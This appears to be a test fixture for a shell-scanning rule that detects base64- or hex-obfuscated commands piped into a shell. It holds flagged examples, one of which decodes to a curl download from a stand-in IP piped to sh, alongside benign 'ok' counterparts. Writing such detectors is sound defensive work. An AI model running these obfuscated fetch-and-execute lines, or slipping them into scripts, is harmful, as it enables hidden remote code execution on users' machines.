# ruleid: sh-base64-pipe-shell
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | bash
# ruleid: sh-base64-pipe-shell
eval "$(echo "$PAYLOAD" | base64 --decode)"
# ruleid: sh-base64-pipe-shell
printf '\x69\x64\x3b\x77\x68\x6f\x61\x6d\x69' | sh
# ok: sh-base64-pipe-shell
base64 -d cert.b64 > cert.pem
# ok: sh-base64-pipe-shell
echo "$DATA" | base64 -d | jq .
# ok: sh-base64-pipe-shell
eval "$(ssh-agent -s)"
# ok: sh-base64-pipe-shell
printf '\x1b[31m%s\x1b[0m\n' "error"
